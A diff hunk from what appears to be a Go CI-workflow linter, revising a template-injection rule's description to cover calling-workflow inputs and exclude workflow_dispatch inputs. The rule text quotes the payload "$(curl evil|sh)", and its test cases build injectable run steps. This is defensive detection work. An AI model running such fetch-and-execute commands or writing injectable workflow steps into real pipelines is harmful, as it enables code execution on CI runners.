@@ -323,7 +323,10 @@ func ruleTemplateInjection() *Rule {
 script) before the shell or JavaScript parses it, so a title such as
 "$(curl evil|sh)" runs. Any attacker-controllable context counts, as do
 the outputs of an agent or model step (a model that read an issue writes
-what the issue told it to). Pass the value through env: and quote "$VAR".`,
+what the issue told it to), and a calling workflow's string inputs. A
+workflow_dispatch input is not: only someone with write access to the
+repository can send one, and that access already edits the workflow. Pass
+the value through env: and quote "$VAR".`,
 		Positive: []string{
 			edit(plainCI, `echo "${{ github.sha }}"`, `echo "${{ github.event.pull_request.title }}"`),
 			edit(goodAgent, "      - name: Budget precheck\n", "      - run: echo '${{ github.event.comment.body }}'\n      - name: Budget precheck\n"),
